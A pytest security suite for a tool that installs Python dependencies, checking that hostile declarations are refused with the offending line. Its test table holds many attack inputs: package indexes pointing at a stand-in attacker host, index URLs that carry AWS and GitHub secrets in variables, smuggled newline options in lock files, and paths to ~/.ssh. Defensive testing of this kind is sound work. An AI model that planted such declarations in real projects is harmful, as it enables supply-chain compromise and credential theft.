"""Row 1: whatever a function's code declares, installing its packages runs nothing and asks only the index.

Each attack is made end to end: the real uv, a real index of the user's, a real server of the attacker's.
"""

import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.code.package.trees import write
from tests.growth import LINEAR, growth
from tests.security.bait import (
    BACKEND,
    SECRET,
    SOURCE,
    TOKEN,
    Machine,
    machine,
    publish_python,
    source_archive,
)
from workbench.code.dependencies.declared import find_declaration
from workbench.code.dependencies.requirements import read_requirements
from workbench.code.dependencies.store import Installed
from workbench.code.dependencies.tool_process import npm_environment, uv_environment
from workbench.core.errors import WorkbenchError

Files = dict[str, str | bytes]
PROJECT = '[project]\nname = "fn"\nversion = "0"\nrequires-python = ">=3.12"\n'
UV_LOCK = 'version = 1\nrevision = 3\nrequires-python = ">=3.12"\n'
ROOT = (
    '\n[[package]]\nname = "fn"\nversion = "0"\nsource = { virtual = "." }\n'
    'dependencies = [{ name = "lib" }]\n'
)
POETRY = '[[package]]\nname = "lib"\nversion = "1.0"\n'
BACKENDS = '[build-system]\nrequires = []\nbuild-backend = "trap"\nbackend-path = ["."]\n'
HEX = "0" * 64
SIZE = 1 << 17
"""Of a large requirements file, in characters."""


@pytest.fixture
def pc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Machine]:
    with machine(tmp_path, monkeypatch) as made:
        publish_python(tmp_path / "wheels")
        publish_python(tmp_path / "evil-wheels")
        (tmp_path / "outside").mkdir()
        (tmp_path / "outside" / "more.txt").write_text("lib\n")
        write(
            tmp_path / "outside",
            {"setup.py": "", "out/__init__.py": "", "pyproject.toml": '[project]\nname = "out"\n'},
        )
        source_archive(tmp_path / "wheels", "sourced", made.fill)
        source_archive(tmp_path / "evil-wheels", "sourced", made.fill)
        yield made


def requirements(text: str, **more: str | bytes) -> Files:
    return {"requirements.txt": text, **SOURCE, **more}


def uv_locked(source: str, more: str = "") -> Files:
    """A uv.lock with lib from somewhere."""
    lib = f'\n[[package]]\nname = "lib"\nversion = "1.0"\nsource = {source}\n{more}'
    return {"pyproject.toml": PROJECT + 'dependencies = ["lib"]\n', "uv.lock": UV_LOCK + ROOT + lib, **SOURCE}


def poetry_locked(source: str) -> Files:
    return {
        "poetry.lock": f"{POETRY}files = []\n[package.source]\n{source}\n",
        **SOURCE,
    }


def pipenv_locked(entry: dict[str, object]) -> Files:
    return {"Pipfile.lock": json.dumps({"default": {"lib": entry}}), **SOURCE}


REFUSED: dict[str, tuple[Files, str]] = {
    "no-binary and a path": (requirements("--no-binary x\n./x\n"), "requirements.txt, line 1: --no-binary"),
    "no-binary for all": (requirements("--no-binary=:all:\nsourced\n"), "line 1: --no-binary"),
    "no-binary behind a package": (requirements("lib --no-binary lib\n"), "line 1: --no-binary"),
    "only-binary lifted": (requirements("lib\n--only-binary :none:\nsourced\n"), "line 2: --only-binary"),
    "an index with a secret": (
        requirements("--index-url @EVIL@/${AWS_SECRET_ACCESS_KEY}/simple\nlib\n"),
        "line 1",
    ),
    "an index": (requirements("# mine\n--index-url @EVIL@/simple\nlib\n"), "line 2: --index-url"),
    "an index, short": (requirements("-i @EVIL@/simple\nlib\n"), "line 1: -i"),
    "an index, short and joined": (requirements("-i@EVIL@/simple\nlib\n"), "line 1: -i"),
    "an index, with an equals sign": (
        requirements("--index-url=@EVIL@/simple\nlib\n"),
        "line 1: --index-url",
    ),
    "an index, shortened": (
        requirements("--index @EVIL@/simple\nlib\n"),
        "line 1: --index: the option is not supported",
    ),
    "an index over two lines": (requirements("lib\n--index-\\\nurl @EVIL@/simple\n"), "line 2: --index-url"),
    "an index in quotes": (requirements('"--index-url" @EVIL@/simple\nlib\n'), "line 1"),
    "another index": (
        requirements("lib\n\n\n--extra-index-url @EVIL@/simple\n"),
        "line 4: --extra-index-url",
    ),
    "no index": (requirements("--no-index\nlib\n"), "line 1: --no-index"),
    "an index in an included file": (
        requirements("-r more/in.txt\n", **{"more/in.txt": "lib\n-i @EVIL@/simple\n"}),
        "more/in.txt, line 2: -i",
    ),
    "an index in a constraints file": (
        requirements("lib\n-c c.txt\n", **{"c.txt": "--extra-index-url @EVIL@/simple\n"}),
        "c.txt, line 1: --extra-index-url",
    ),
    "find-links": (requirements("--find-links @EVIL@/wheels/\nlib\n"), "line 1: --find-links"),
    "find-links, short": (requirements("-f x\nlib\n"), "line 1: -f"),
    "a trusted host": (requirements("--trusted-host @EVILHOST@\nlib\n"), "line 1: --trusted-host"),
    "an absolute path": (requirements("@OUTSIDE@\n"), "line 1: it takes a package from a file or folder"),
    "a file address": (
        requirements("file://@OUTSIDE@\n"),
        "line 1: it takes a package from a file or folder",
    ),
    "a named path": (
        requirements("x @ file://@OUTSIDE@\n"),
        "line 1: it takes a package from a file or folder",
    ),
    "a wheel in the code": (
        requirements("lib-1.0-py3-none-any.whl\n"),
        "line 1: it takes a package from a file",
    ),
    "an archive's address": (
        requirements("@EVIL@/wheels/sourced-1.0.tar.gz\n"),
        "line 1: it takes a package from a URL",
    ),
    "a named address": (requirements("sourced @ @EVIL@/wheels/sourced-1.0.tar.gz\n"), "from a URL"),
    "a named address with a marker": (
        requirements("lib @ @EVIL@/wheels/lib-1.0-py3-none-any.whl ; python_version > '3'\n"),
        "from a URL",
    ),
    "a repository": (
        requirements("git+@EVIL@/lib.git#egg=lib\n"),
        "line 1: it takes a package from a repository",
    ),
    "a named repository": (requirements("lib @ git+@EVIL@/lib.git@main\n"), "from a repository"),
    "a repository by ssh": (requirements("git+ssh://git@@EVILHOST@/lib.git\n"), "from a repository"),
    "a repository of another kind": (requirements("hg+@EVIL@/lib#egg=lib\n"), "from a repository"),
    "an editable repository": (requirements("-e git+@EVIL@/x.git#egg=x\n"), "line 1: -e"),
    "a variable as a name": (requirements("${AWS_SECRET_ACCESS_KEY}\n"), "uses the value of a variable"),
    "a variable as a version": (
        requirements("lib==${AWS_SECRET_ACCESS_KEY}\n"),
        "uses the value of a variable",
    ),
    "a variable in a marker": (
        requirements("lib ; sys_platform != '${GITHUB_TOKEN}'\n"),
        "uses the value of a variable",
    ),
    "an included file above": (
        requirements("-r ../outside/more.txt\n"),
        "line 1: ../outside/more.txt is outside",
    ),
    "an included file above, hidden": (requirements("-r more/../../outside/more.txt\n"), "is outside"),
    "an included file by its whole path": (requirements("-r @OUTSIDE@/more.txt\n"), "is outside"),
    "an included address": (requirements("-r @EVIL@/simple/lib\n"), "is outside"),
    "an included file address": (requirements("-rfile://@OUTSIDE@/more.txt\n"), "is outside"),
    "constraints above": (
        requirements("lib\n-c ../outside/more.txt\n"),
        "line 2: ../outside/more.txt is outside",
    ),
    "settings of a build": (requirements("lib --config-settings=a=b\n"), "line 1: --config-settings"),
    "options of a build": (requirements('lib --global-option="build_ext"\n'), "line 1: --global-option"),
    "an option that nobody knows": (requirements("--build-dir x\nlib\n"), "line 1: --build-dir"),
    "a weak hash": (requirements("lib==1.0 --hash=md5:d41d8cd98f00b204e9800998ecf8427e\n"), "line 1: “md5:"),
    "quotes that do not end": (requirements("lib --hash='sha256:\n"), "line 1: its quotation marks"),
    "a hidden line": (
        requirements("lib ; python_version > '3' \\\n--index-url @EVIL@/simple\n"),
        "line 1: --index-url",
    ),
    "UTF-16 with an index": (
        {"requirements.txt": "--index-url @EVIL@/simple\nlib\n".encode("utf-16"), **SOURCE},
        "line 1: --index-url",
    ),
    "UTF-7 that hides an index": (
        requirements("# coding: utf-7\n+AC0ALQ-index-url @EVIL@/simple\nlib\n"),
        "“utf-7” is not a supported encoding",
    ),
    "a line of binary": (
        {"requirements.txt": b"lib\n\xff\xfe\x00\n", **SOURCE},
        "requirements.txt, line 2: it is not UTF-8",
    ),
    "a NUL": ({"requirements.txt": b"lib\n\x00--index-url x\n", **SOURCE}, "line 2"),
    "an arbitrary version with a path": (requirements("lib===../../x\n"), "line 1"),
    "a marker with no end": (requirements(f"lib ; {'(' * 3_000}\n"), "line 1"),
    "more requirements than anybody has": (
        requirements("lib\n" * 5_001),
        "line 5001: there are more than 5,000",
    ),
    "pyproject: a named address": (
        {"pyproject.toml": PROJECT + 'dependencies = ["lib @ @EVIL@/wheels/lib-1.0-py3-none-any.whl"]\n'},
        "pyproject.toml, line 5",
    ),
    "pyproject: a repository": (
        {"pyproject.toml": PROJECT + 'dependencies = ["lib @ git+@EVIL@/lib.git"]\n'},
        "from a repository",
    ),
    "pyproject: an index": (
        {
            "pyproject.toml": PROJECT
            + 'dependencies = ["lib"]\n[[tool.uv.index]]\nurl = "@EVIL@/simple"\ndefault = true\n'
        },
        "[[tool.uv.index]]",
    ),
    "pyproject: an index of pip": (
        {"pyproject.toml": PROJECT + 'dependencies = ["lib"]\n[tool.uv.pip]\nindex-url = "@EVIL@/simple"\n'},
        "index-url",
    ),
    "pyproject: no binary": (
        {"pyproject.toml": PROJECT + 'dependencies = ["sourced"]\n[tool.uv.pip]\nno-binary = [":all:"]\n'},
        "sets no-binary",
    ),
    "pyproject: built to know": (
        {
            "pyproject.toml": PROJECT + 'dynamic = ["dependencies"]\ndependencies = ["lib"]\n' + BACKENDS,
            "trap.py": BACKEND,
        },
        "dynamic",
    ),
    "uv.lock: a repository": (
        uv_locked('{ git = "@EVIL@/lib.git?rev=main#0123456789012345678901234567890123456789" }'),
        "uv.lock, line 12: lib comes from another source (git)",
    ),
    "uv.lock: an address": (
        uv_locked('{ url = "@EVIL@/wheels/sourced-1.0.tar.gz" }', f'sdist = {{ hash = "sha256:{HEX}" }}\n'),
        "(url)",
    ),
    "uv.lock: a file": (uv_locked('{ path = "x.whl" }'), "(path)"),
    "poetry.lock: a repository": (
        poetry_locked('type = "git"\nurl = "@EVIL@/lib.git"\nreference = "main"'),
        "poetry.lock, line 2: lib comes from another source",
    ),
    "poetry.lock: an address": (
        poetry_locked('type = "url"\nurl = "@EVIL@/lib.whl"'),
        "lib comes from another source",
    ),
    "poetry.lock: a name with a line": (
        {"poetry.lock": '[[package]]\nname = "lib\\n--index-url @EVIL@/simple"\nversion = "1"\n'},
        "poetry.lock is malformed",
    ),
    "poetry.lock: a version with an option": (
        {"poetry.lock": '[[package]]\nname = "lib"\nversion = "1 --index-url @EVIL@/simple"\n'},
        "poetry.lock is malformed",
    ),
    "Pipfile.lock: a repository": (
        pipenv_locked({"git": "@EVIL@/lib.git", "ref": "main"}),
        "Pipfile.lock, line 1: lib comes from another source",
    ),
    "Pipfile.lock: a version and a repository": (
        pipenv_locked({"version": "==1.0", "git": "@EVIL@/lib.git"}),
        "lib comes from another source",
    ),
    "Pipfile.lock: a marker with a line": (
        pipenv_locked({"version": "==1.0", "markers": "python_version > '3'\n--index-url @EVIL@/simple"}),
        "Pipfile.lock",
    ),
    "only a source in the index": (requirements("sourced\n"), "sourced"),
    "a package that asks for an address": (requirements("sneaky\n"), ""),
    "a package that asks for a repository": (requirements("cloner\n"), ""),
    "an index with a user": (
        requirements("--index-url http://me:secret@@EVILHOST@/simple\nlib\n"),
        "line 1: --index-url: the address of a package index is not accepted",
    ),
    "an index that is read in two ways": (
        requirements("--index-url @EVIL@\\\\@index.example/simple\nlib\n"),
        "the address of a package index is not accepted",
    ),
    "an index behind another's name": (
        requirements("--extra-index-url https://index.example@@EVILHOST@/simple\nlib\n"),
        "is not accepted",
    ),
    "an index with another at its start": (
        requirements("--extra-index-url http://index.example.localhost/simple\nlib\n"),
        "is not asked over a secure connection",
    ),
    "an index with a query": (requirements("-i @EVIL@/simple?x=$HOME\nlib\n"), "is not accepted"),
    "an index with a fragment": (requirements("-i @EVIL@/simple#@index.example\nlib\n"), "is not accepted"),
    "an index with a variable, encoded": (requirements("-i @EVIL@/%zz/simple\nlib\n"), "-i:"),
    "an index that leads up": (requirements("-i @EVIL@/simple/../x/..\nlib\n"), "is not accepted"),
    "an index on the disk": (requirements("-i file://@OUTSIDE@\nlib\n"), "is not accepted"),
    "an index in capitals": (requirements("-i HTTP://@EVILHOST@/simple\nlib\n"), "is not accepted"),
    "an index that is not secure": (requirements("-i http://index.example/simple\nlib\n"), "(https)"),
    "Pipfile: an index": (
        {"Pipfile": '[[source]]\nurl = "@EVIL@/simple"\nname = "x"\n[packages]\nlib = "*"\n'},
        "[[source]]: ",
    ),
    "Pipfile: an index with a secret": (
        {"Pipfile": '[[source]]\nurl = "@EVIL@/${GITHUB_TOKEN}/simple"\n[packages]\nlib = "*"\n'},
        "uses the value of a variable",
    ),
    "Pipfile: a repository": (
        {"Pipfile": '[packages]\nlib = {git = "@EVIL@/lib.git", ref = "main"}\n'},
        "lib comes from another source",
    ),
    "Pipfile: an option": ({"Pipfile": '[packages]\nlib = "--index-url @EVIL@/simple"\n'}, "Pipfile"),
    "Pipfile: a name with a line": ({"Pipfile": '[packages]\n"lib\\n-i @EVIL@/simple" = "*"\n'}, "Pipfile"),
    "Pipfile: a marker with a line": (
        {"Pipfile": '[packages]\nlib = {version = "*", markers = "python_version > \'3\'\\n-i @EVIL@"}\n'},
        "Pipfile",
    ),
    "Poetry: a repository": (
        {"pyproject.toml": '[tool.poetry.dependencies]\nlib = {git = "@EVIL@/lib.git"}\n'},
        "lib comes from another source",
    ),
    "Poetry: an archive": (
        {"pyproject.toml": '[tool.poetry.dependencies]\nlib = {url = "@EVIL@/lib.whl"}\n'},
        "lib comes from another source",
    ),
    "Poetry: an index": (
        {
            "pyproject.toml": '[tool.poetry.dependencies]\nlib = "*"\n'
            '[[tool.poetry.source]]\nname = "x"\nurl = "@EVIL@/simple"\n'
        },
        "[[tool.poetry.source]]: ",
    ),
    "Poetry: a version with an option": (
        {"pyproject.toml": '[tool.poetry.dependencies]\nlib = "^1.0\\n--index-url @EVIL@/simple"\n'},
        "pyproject.toml",
    ),
    "a folder outside": (requirements("../outside\n"), "line 1: it takes a package from a folder outside"),
    "a folder outside, editable": (requirements("-e ../outside\n"), "from a folder outside the project"),
    "a folder outside, hidden": (requirements("./x/../../outside\n"), "from a folder outside the project"),
    "a folder by a link": (requirements("./linked\n"), "from a folder outside the project"),
    "a folder of the user": (requirements("-e ~/.ssh\n"), "line 1: -e"),
    "a folder by a variable": (requirements("-e ./${HOME}\n"), "uses the value of a variable"),
    "a folder that is not there": (requirements("./nothing\n"), "from a folder that does not exist"),
    "a folder with a link outside": (requirements("./leaky\n"), "leads out of the code folder"),
    "a folder whose requirements lead elsewhere": (
        requirements(
            "./y\n",
            **{
                "y/pyproject.toml": '[project]\nname = "y"\ndependencies = ["lib @ @EVIL@/l"]\n',
                "y/y/__init__.py": "",
            },
        ),
        "from a URL",
    ),
    "a folder that asks for a repository": (
        requirements(
            "./y\n",
            **{
                "y/setup.py": "from setuptools import setup\nsetup(install_requires=['git+@EVIL@'])\n",
                "y/y/__init__.py": "",
            },
        ),
        "from a repository",
    ),
    "a folder that computes what it requires": (
        requirements(
            "./y\n",
            **{"y/setup.py": "from setuptools import setup\nsetup(install_requires=[open('x').read()])\n"},
        ),
        "which only a build can determine",
    ),
    "a folder that must be compiled": (
        requirements(
            "./y\n",
            **{"y/setup.py": "from setuptools import setup\nsetup(ext_modules=[])\n", "y/y/__init__.py": ""},
        ),
        "must be compiled",
    ),
    "a folder that names files above": (
        requirements(
            "./y\n",
            **{
                "y/pyproject.toml": '[project]\nname = "y"\ndynamic = ["dependencies"]\n'
                '[tool.setuptools.dynamic]\ndependencies = {file = ["../../outside/more.txt"]}\n'
            },
        ),
        "a file that it does not have",
    ),
    "a folder that leads to a folder outside": (
        requirements(
            "./y\n",
            **{
                "y/pyproject.toml": '[tool.poetry.dependencies]\nz = {path = "../../outside"}\n',
                "y/y/__init__.py": "",
            },
        ),
        "from a folder outside the project",
    ),
    "uv.lock: a folder outside": (uv_locked('{ directory = "../outside" }'), "(directory)"),
    "poetry.lock: a folder outside": (
        poetry_locked('type = "directory"\nurl = "../outside"'),
        "outside the project",
    ),
    "Pipfile.lock: a folder outside": (
        pipenv_locked({"path": "../outside", "editable": True}),
        "outside the project",
    ),
}
"""Declarations that are refused, and words of the refusal."""


FOLDERS: dict[str, Files] = {
    "a path": requirements("./x\n"),
    "a path without a dot": requirements("x/\n"),
    "a path above": requirements("../code/x\n"),
    "a named path": requirements("x @ ./x\n"),
    "a named file address": requirements("x @ file:./x\n"),
    "an editable folder": requirements("-e ./x\n"),
    "an editable folder, joined": requirements("-e./x\n"),
    "an editable folder, long": requirements("--editable=./x\n"),
    "a folder of a folder": requirements(
        "./y\n",
        **{
            "y/pyproject.toml": '[tool.poetry.dependencies]\nx = {path = "../x"}\n',
            "y/y/__init__.py": "",
        },
    ),
    "folders in a circle": requirements(
        "./x\n./y\n",
        **{
            "y/pyproject.toml": '[tool.poetry.dependencies]\nz = {path = "../z"}\nx = {path = "../x"}\n',
            "z/pyproject.toml": '[tool.poetry.dependencies]\ny = {path = "../y"}\n',
            "y/y/__init__.py": "",
            "z/z/__init__.py": "",
        },
    ),
    "uv.lock: a folder": uv_locked('{ directory = "x" }'),
    "uv.lock: an editable folder": uv_locked('{ editable = "x" }'),
    "uv.lock: another project": uv_locked('{ virtual = "x" }'),
    "poetry.lock: a folder": poetry_locked('type = "directory"\nurl = "x"'),
    "Pipfile.lock: a folder": pipenv_locked({"path": "./x", "editable": True}),
    "Pipfile: a folder": {"Pipfile": '[packages]\nx = {path = "./x", editable = true}\n', **SOURCE},
    "Poetry: a folder": {"pyproject.toml": '[tool.poetry.dependencies]\nx = {path = "x"}\n', **SOURCE},
    "pyproject: a source": {
        "pyproject.toml": PROJECT + 'dependencies = ["lib"]\n[tool.uv.sources]\nlib = { path = "x" }\n',
        **SOURCE,
    },
}
"""Declarations of a folder of the project, whose build leaves a mark."""


@pytest.mark.parametrize("name", FOLDERS)
def test_a_folder_of_the_project_is_copied_and_never_built(pc: Machine, name: str) -> None:
    pc.write(FOLDERS[name])
    (pc.code / "x" / ".env").write_text(f"KEY={SECRET}\n")
    (pc.code / "x" / "__pycache__").mkdir()
    (pc.code / "x" / "__pycache__" / "trap.pyc").write_bytes(b"")
    installed = pc.install("python3.12")
    assert pc.harm() == []
    assert isinstance(installed, Installed), installed
    assert (installed.root / "trap.py").read_text() == pc.fill(BACKEND)
    assert "trap.py" in installed.found.paths
    assert not [
        path for path in installed.found.paths if ".env" in path or "setup.py" in path or "pyc" in path
    ]


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_declaration_is_refused_with_its_line(pc: Machine, name: str) -> None:
    files, words = REFUSED[name]
    pc.write(files)
    (pc.code / "linked").symlink_to(pc.folder / "outside")
    write(pc.code / "leaky", {"pyproject.toml": '[project]\nname = "leaky"\n', "leaky/__init__.py": ""})
    (pc.code / "leaky" / "leaky" / "key.py").symlink_to(pc.folder / "outside" / "more.txt")
    refusal = pc.install("python3.12")
    assert pc.harm() == []
    assert isinstance(refusal, WorkbenchError)
    assert words in refusal.why
    assert SECRET not in str(refusal)
    assert not list(pc.folder.glob("store/*"))


def test_a_link_to_a_file_outside_is_not_included(pc: Machine) -> None:
    pc.write(requirements("-r in.txt\n"))
    (pc.code / "in.txt").symlink_to(pc.folder / "outside" / "more.txt")
    refusal = pc.install("python3.12")
    assert isinstance(refusal, WorkbenchError)
    assert "in.txt" in refusal.why


def test_what_tools_get_holds_no_secret_of_the_user(pc: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in (
        "PYTHONPATH",
        "NODE_OPTIONS",
        "LD_PRELOAD",
        "UV_OVERRIDE",
        "npm_config_script_shell",
        "npm_config_git",
    ):
        monkeypatch.setenv(name, "/evil")
    (pc.folder / "home" / ".npmrc").write_text(
        "//registry.example/:_authToken=${OWN_TOKEN}\nx=${AWS_SECRET_ACCESS_KEY}\n"
    )
    monkeypatch.setenv("OWN_TOKEN", "mine")
    for environment in (uv_environment(), npm_environment()):
        assert SECRET not in environment.values()
        assert TOKEN not in environment.values()
        assert "/evil" not in environment.values()
        assert not [name for name in environment if name.startswith("AWS_")]
    assert npm_environment()["OWN_TOKEN"] == "mine"  # the user's own settings of npm name it
    assert "OWN_TOKEN" not in uv_environment()


LARGE: dict[str, Callable[[int], str]] = {
    "hashes": lambda size: "".join(
        f"lib==1.{n} \\\n" + f"    --hash=sha256:{HEX} \\\n" * 60 + f"    --hash=sha256:{HEX}\n"
        for n in range(size // 5000)
    ),
    "comments": lambda size: "# nothing\n" * (size // 10),
    "blanks": lambda size: "lib " + " " * size + "# end\n",
    "continuations": lambda size: "lib" + "\\\n" * (size // 2) + "==1.0\n",
    "brackets": lambda size: "lib" + "[" * size + "\n",
    "number signs": lambda size: "lib " + "x#" * (size // 2) + "\n",
    "dashes": lambda size: "lib " + "--hash " * (size // 7) + "\n",
    "quotes": lambda size: "lib --hash=" + "'" * size + "\n",
    "names": lambda size: "\n".join(f"lib{n}" for n in range(size // 8)),
    "includes": lambda size: "-r in.txt\n" * (size // 10),
}
"""Requirements files by their size in characters, about."""


@pytest.mark.parametrize("name", LARGE)
def test_the_time_for_a_large_file_grows_no_faster_than_the_file(name: str) -> None:
    data = {size: LARGE[name](size).encode() for size in (SIZE, 4 * SIZE)}
    refusals = []

    def read(size: int) -> None:
        try:
            read_requirements({"requirements.txt": data[size], "in.txt": b"lib\n"}, "requirements.txt")
        except WorkbenchError as error:
            refusals.append(error)

    assert growth(read, SIZE) < LINEAR
    assert all("line " in each.why for each in refusals)


def test_what_was_agreed_to_is_what_is_installed(pc: Machine) -> None:
    """The files change between the question and the installation."""
    pc.write({"requirements.txt": "lib==1.0\n"})
    declared = find_declaration(pc.code, "python")
    assert declared is not None
    pc.write({"requirements.txt": "--index-url @EVIL@/simple\nbase\n"})
    from workbench.code.dependencies.store import Target
    from workbench.code.dependencies.use import install
    from workbench.core.jobs import JobContext

    installed = install(declared, Target("python3.12"), pc.store, JobContext())
    assert installed.found.packages == (("lib", "1.0"),)
    assert pc.harm() == []
